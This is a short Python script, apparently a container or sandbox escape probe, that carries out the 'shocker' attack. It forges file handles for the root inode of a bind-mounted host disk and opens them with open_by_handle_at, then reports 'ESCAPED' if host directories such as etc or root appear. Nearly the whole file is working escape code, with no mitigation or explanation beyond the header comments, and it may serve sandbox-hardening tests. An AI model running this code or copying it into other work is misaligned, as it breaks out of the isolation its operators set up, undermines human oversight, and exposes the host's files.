# Aims at the host ("shocker"): forge a file handle for inode 2 (the filesystem root) of a host disk
# that is bind-mounted inside, and open it with open_by_handle_at -- a path to the whole host tree.
# ESCAPED when the forged handle opens and lists host folders.
import ctypes
import os
import platform
import struct

NR = {"x86_64": (303, 304), "aarch64": (264, 265)}.get(platform.machine())
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    if NR is None:
        raise OSError("unknown architecture")
    name_to_handle, open_by_handle = NR
    mount_dirs = [os.path.dirname(os.__file__), os.path.dirname(ctypes.__file__), "/usr/lib", "/tmp", "/"]
    for d in mount_dirs:
        try:
            mfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as e:
            print("no", d, e)
            continue
        buf = ctypes.create_string_buffer(8 + 128)
        struct.pack_into("<Ii", buf, 0, 128, 0)
        mount_id = ctypes.c_int()
        r = libc.syscall(name_to_handle, ctypes.c_int(-100), d.encode(), buf, ctypes.byref(mount_id), 0)
        htype = struct.unpack_from("<Ii", buf, 0)[1] if r == 0 else 1
        print(d, "name_to_handle_at:", r, "errno", ctypes.get_errno(), "type", htype)
        for ino in (2, 128):  # ext4/xfs-like roots
            forged = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, ino, 0))
            fd = libc.syscall(open_by_handle, ctypes.c_int(mfd), forged, ctypes.c_int(os.O_RDONLY | os.O_DIRECTORY))
            if fd >= 0:
                entries = os.listdir(int(fd))
                os.close(int(fd))
                if {"etc", "usr", "work", "root", "home"} & set(entries):
                    print(f"ESCAPED: open_by_handle_at on {d} opened a host root: {sorted(entries)[:8]}")
                else:
                    print("forged handle opened", sorted(entries)[:8])
            else:
                print(d, "open_by_handle_at ino", ino, "errno", ctypes.get_errno())
        os.close(mfd)
except Exception as e:
    print("refused:", type(e).__name__, e)
